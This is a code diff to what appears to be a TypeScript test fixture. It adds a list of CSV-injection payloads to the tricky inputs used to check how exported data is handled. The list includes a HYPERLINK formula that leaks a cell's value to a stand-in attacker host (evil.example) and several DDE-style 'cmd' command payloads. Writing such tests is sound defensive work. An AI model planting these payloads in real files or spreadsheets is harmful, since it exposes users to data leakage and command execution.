@@ -8,7 +8,19 @@ export const CANARY = 'cnry7f3a9e';
 /** What CANARY becomes in path values: a problem may name the id it could not find, a page never shows it. */
 export const PATH_CANARY = 'pthm4k2q';
 
+/** Cells a spreadsheet would run as formulas (CSV injection), as systems may report them in export data. */
+export const CSV_FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+  "=cmd|' /C calc'!A0",
+  '+1+2',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+] as const;
+
 const TRICKY = [
+  ...CSV_FORMULAS,
   '',
   ' ',
   '\u0000',
